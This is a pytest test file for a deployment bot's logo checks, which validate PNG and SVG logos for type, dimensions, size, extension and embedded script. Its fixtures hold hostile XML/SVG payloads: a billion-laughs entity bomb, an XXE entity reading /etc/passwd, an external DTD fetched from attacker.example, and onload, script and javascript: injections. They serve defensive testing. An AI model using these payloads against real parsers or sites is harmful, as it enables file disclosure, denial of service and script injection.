"""LOGO-* rules: the logo is judged by its content (PNG or SVG), parsed safely, never rendered."""

from __future__ import annotations

import struct
import zlib
from datetime import UTC, date, datetime

import pytest

from bot.calendar import DeployCalendar
from bot.models import Finding, Kind, Request
from bot.rules.base import Context, Subject
from bot.rules.logo import LogoFacts, check_logo, logo_facts

CAL = DeployCalendar()
NOW = datetime(2026, 11, 25, 15, 0, tzinfo=UTC)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def make_png(width: int, height: int) -> bytes:
    """A real (blank, RGBA) PNG: every chunk with its CRC."""
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    pixels = zlib.compress((b"\x00" + b"\x00" * 4 * width) * height, 9)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels)
            + chunk(b"IEND", b""))


def svg(body: str = '<rect width="171" height="40"/>', attrs: str = 'viewBox="0 0 171 40"',
        prolog: str = "") -> bytes:
    return (f'{prolog}<svg xmlns="http://www.w3.org/2000/svg" {attrs}>{body}</svg>').encode()


SVG = svg()
PNG = make_png(171, 40)
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><text>&lol9;</text></svg>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><text>&x;</text></svg>"""
PARAMETER_ENTITY = b"""<!DOCTYPE svg [<!ENTITY % d SYSTEM "http://attacker.example/x.dtd"> %d;]>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"/>"""
ATTLIST_ONLOAD = b"""<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"/>"""
EDITOR_DOCTYPE = b"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" version="1.1"
     viewBox="0 0 171 40"><rect width="171" height="40"/></svg>"""


def judge(name: str | None, content: bytes | None = None, *, kind: Kind = Kind.launch,
          unreadable: dict[str, str] | None = None, partial: bool = False,
          given: set[str] | None = None) -> list[Finding]:
    request = Request(kind=kind, logo=name)
    files = {name: content} if name is not None and content is not None else {}
    ctx = Context(now=NOW, calendar=CAL, files=files, unreadable=unreadable or {})
    subject = Subject(request=request, given=frozenset(request.given() if given is None
                                                       else given),
                      partial=partial, context=ctx, target=date(2026, 12, 10))
    return list(check_logo(subject))


def rules(findings: list[Finding]) -> list[str]:
    return sorted(f.rule for f in findings)


# (id, file name, content, expected rules, a fragment of the first finding's message)
CASES: list[tuple[str, str, bytes, list[str], str]] = [
    ("valid SVG", "logo.svg", SVG, [], ""),
    ("valid SVG, upper-case extension", "assets/LOGO.SVG", SVG, [], ""),
    ("SVG without a namespace", "logo.svg", b'<svg viewBox="0 0 10 10"/>', [], ""),
    ("SVG with an XML declaration and BOM", "logo.svg",
     b'\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?>\n' + SVG, [], ""),
    ("SVG in UTF-16", "logo.svg", SVG.decode().encode("utf-16"), [], ""),
    ("SVG with the editors' bare DOCTYPE", "logo.svg", EDITOR_DOCTYPE, [], ""),
    ("SVG without a viewBox", "logo.svg", svg(attrs='width="171" height="40"'),
     ["LOGO-SVG"], 'has no viewBox; add one, e.g. viewBox="0 0 171 40"'),
    ("SVG with viewbox in lower case", "logo.svg", svg(attrs='viewbox="0 0 1 1"'),
     ["LOGO-SVG"], "has 'viewbox' but not 'viewBox'"),
    ("SVG with a malformed viewBox", "logo.svg", svg(attrs='viewBox="0 0 100"'),
     ["LOGO-SVG"], "viewBox '0 0 100' is not four numbers"),
    ("SVG with a zero-width viewBox", "logo.svg", svg(attrs='viewBox="0,0,0,40"'),
     ["LOGO-SVG"], "with a positive width and height"),
    ("SVG with <script>", "logo.svg", svg('<script>alert(1)</script>'),
     ["LOGO-SVG"], "contains script: a <script> element"),
    ("SVG with a nested, namespaced script", "logo.svg",
     svg('<foreignObject><x:script xmlns:x="http://www.w3.org/1999/xhtml">1</x:script>'
         '</foreignObject>'),
     ["LOGO-SVG"], "a <script> element"),
    ("SVG with onload", "logo.svg", svg(attrs='viewBox="0 0 1 1" onload="alert(1)"'),
     ["LOGO-SVG"], "contains script: onload= on <svg> (event handler attributes"),
    ("SVG with onclick on a child", "logo.svg", svg('<rect onclick="x()"/>'),
     ["LOGO-SVG"], "onclick= on <rect>"),
    ("SVG with a javascript: link", "logo.svg",
     svg('<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href=" java\tscript:x()">'
         '<rect/></a>'),
     ["LOGO-SVG"], "a javascript: link on <a>"),
    ("SVG with script and no viewBox", "logo.svg", svg("<script/>", attrs=""),
     ["LOGO-SVG", "LOGO-SVG"], "has no viewBox"),
    ("billion laughs", "logo.svg", BILLION_LAUGHS,
     ["LOGO-SVG"], "declares a DTD or entities"),
    ("external entity", "logo.svg", XXE, ["LOGO-SVG"], "were not expanded"),
    ("external parameter entity", "logo.svg", PARAMETER_ENTITY, ["LOGO-SVG"],
     "not allowed"),
    ("DTD default attributes", "logo.svg", ATTLIST_ONLOAD, ["LOGO-SVG"], "remove the DOCTYPE"),
    ("entities in non-SVG XML", "logo.svg", XXE.replace(b"svg", b"doc"), ["LOGO-TYPE"],
     "is XML that declares a DTD or entities"),
    ("PNG 171x40", "logo.png", PNG, [], ""),
    ("PNG 400x200", "logo.png", make_png(400, 200),
     ["LOGO-DIMENSIONS"], "logo 'logo.png' is 400×200 px; logos are shown at most 171×40 px"),
    ("PNG 172x40", "logo.png", make_png(172, 40), ["LOGO-DIMENSIONS"], "172×40"),
    ("PNG 171x41", "logo.png", make_png(171, 41), ["LOGO-DIMENSIONS"], "171×41"),
    ("PNG named .svg", "logo.svg", PNG,
     ["LOGO-EXT"], "is a PNG file by content but its name ends in '.svg'; name it .png"),
    ("SVG named .png", "logo.png", SVG, ["LOGO-EXT"], "is an SVG file by content"),
    ("PNG without an extension", "logo", PNG, ["LOGO-EXT"], "its name has no extension"),
    ("GIF", "logo.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
     ["LOGO-TYPE"], "is a GIF image, not PNG or SVG"),
    ("JPEG named .png", "logo.png", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 100,
     ["LOGO-TYPE"], "is a JPEG image"),
    ("HTML", "logo.svg", b"<html><body><svg/></body></html>",
     ["LOGO-TYPE"], "root element is <html>, not <svg>"),
    ("svg root in another namespace", "logo.svg", b'<svg xmlns="urn:x" viewBox="0 0 1 1"/>',
     ["LOGO-TYPE"], "namespace 'urn:x'"),
    ("broken SVG", "logo.svg", SVG[:-3], ["LOGO-TYPE"], "looks like SVG but is not well-formed"),
    ("truncated PNG header", "logo.png", PNG[:20], ["LOGO-TYPE"], "is a truncated PNG"),
    ("truncated PNG data", "logo.png", PNG[:-20], ["LOGO-TYPE"], "is a truncated PNG"),
    ("PNG with a bad IHDR checksum", "logo.png", PNG[:29] + b"\x00\x00\x00\x00" + PNG[33:],
     ["LOGO-TYPE"], "fails its checksum"),
    ("PNG without image data", "logo.png",
     PNG[:33] + chunk(b"IEND", b""), ["LOGO-TYPE"], "no image data"),
    ("60 KB SVG", "logo.svg", svg("<!--" + "x" * 60_000 + "-->"),
     ["LOGO-SIZE"], "is 60,074 bytes; the limit is 51,200 bytes"),
    ("51,200 bytes exactly", "logo.svg", svg("<!--" + "x" * (51_200 - len(svg("")) - 7) + "-->"),
     [], ""),
    ("60 KB PNG", "logo.png", PNG[:-12] + chunk(b"tEXt", b"k\x00" + b"v" * 60_000)
     + PNG[-12:], ["LOGO-SIZE"], "bytes; the limit is 51,200"),
    ("empty file", "logo.svg", b"", ["LOGO-TYPE"], "is an empty file"),
]


def test_the_size_limit_case_is_exact() -> None:
    assert len(next(c for c in CASES if c[0] == "51,200 bytes exactly")[2]) == 51_200


@pytest.mark.parametrize(("name", "content", "expected", "fragment"),
                         [case[1:] for case in CASES], ids=[case[0] for case in CASES])
def test_logo_file(name: str, content: bytes, expected: list[str], fragment: str) -> None:
    findings = judge(name, content)
    assert rules(findings) == sorted(expected), [f.message for f in findings]
    assert all(f.field == "logo" for f in findings)
    if findings:
        assert fragment in findings[0].message, findings[0].message


@pytest.mark.parametrize(("kind", "fires"), [
    (Kind.launch, True), (Kind.staging, True), (Kind.change, False),
])
def test_logo_required(kind: Kind, fires: bool) -> None:
    findings = judge(None, kind=kind)
    assert rules(findings) == (["LOGO-REQUIRED"] if fires else [])
    if fires:
        assert f"a {kind.value} request needs a logo" in findings[0].message


@pytest.mark.parametrize("kind", [Kind.launch, Kind.change])
def test_unreadable_logo_is_reported_for_any_kind(kind: Kind) -> None:
    [f] = judge("logo.svg", kind=kind, unreadable={"logo.svg": "no such file"})
    assert (f.rule, f.field) == ("LOGO-REQUIRED", "logo")
    assert f.message == "logo 'logo.svg' could not be read: no such file"


def test_named_but_not_provided() -> None:
    [f] = judge("logo.svg")
    assert f.rule == "LOGO-REQUIRED" and "was not provided" in f.message
    # A change the bot knows may carry its current logo by name only: not asked for.
    assert judge("current.svg", kind=Kind.change, given={"app_name"}) == []
    # A partial change that does not touch the logo is not judged on it.
    assert judge("logo.svg", b"junk", kind=Kind.change, partial=True, given={"app_name"}) == []
    assert rules(judge("logo.svg", b"junk", kind=Kind.change, partial=True,
                       given={"logo"})) == ["LOGO-TYPE"]


def test_logo_facts() -> None:
    png = logo_facts("dir/Logo.PNG", make_png(300, 60))
    assert isinstance(png, LogoFacts)
    assert (png.format, png.extension, png.width, png.height) == ("png", "png", 300, 60)
    assert png.size == len(make_png(300, 60)) and png.problem is None
    facts = logo_facts("logo.svg", svg('<script/>', attrs='viewBox="0 0 171 40" onload="x"'))
    assert (facts.format, facts.view_box, facts.has_script) == ("svg", "0 0 171 40", True)
    assert facts.scripts == ("onload= on <svg>", "a <script> element")
    assert facts.width is None and facts.svg_problems == ()
    junk = logo_facts("x.gif", b"GIF89a")
    assert junk.format is None and junk.problem and "GIF" in junk.problem


JUNK: list[bytes] = [
    b"",
    b"   \n\t",
    b"\x00" * 100,
    bytes(range(256)) * 10,
    b"\x89PNG\r\n\x1a\n",
    b"\x89PNG\r\n\x1a\n" + b"\xff" * 100,
    PNG[:33] + b"\xff\xff\xff\xffIDAT",  # a chunk claiming 4 GB
    b"<",
    b"<svg",
    b"<svg><",
    b"<\xff\xfe\xc3\x28>",
    b'<?xml version="1.0" encoding="x-no-such-codec"?><svg/>',
    b'<?xml version="1.0" encoding="utf-16"?><svg/>',
    b"\xff\xfe<\x00s",
    b"<svg>" + b"<g>" * 100_000 + b"</g>" * 100_000 + b"</svg>",  # deep nesting
    b"<svg " + b" ".join(b'a%d="1"' % i for i in range(20_000)) + b"/>",
    b"<svg>" + b"&amp;" * 100_000 + b"</svg>",
    b"<" * 1_000_000,
    b"<svg>" + b"x" * 2_000_000 + b"</svg>",  # too big to parse: sniffed only
    BILLION_LAUGHS.replace(b"lol9", b"lol9" * 1000),
]


@pytest.mark.parametrize("junk", JUNK, ids=range(len(JUNK)))
@pytest.mark.parametrize("name", ["logo.svg", "logo.png", "", "...", "a/b\\c.Png"])
def test_junk_never_raises(junk: bytes, name: str) -> None:
    facts = logo_facts(name, junk)
    assert facts.size == len(junk)
    findings = judge(name or "x", junk)
    assert all(f.field == "logo" for f in findings)
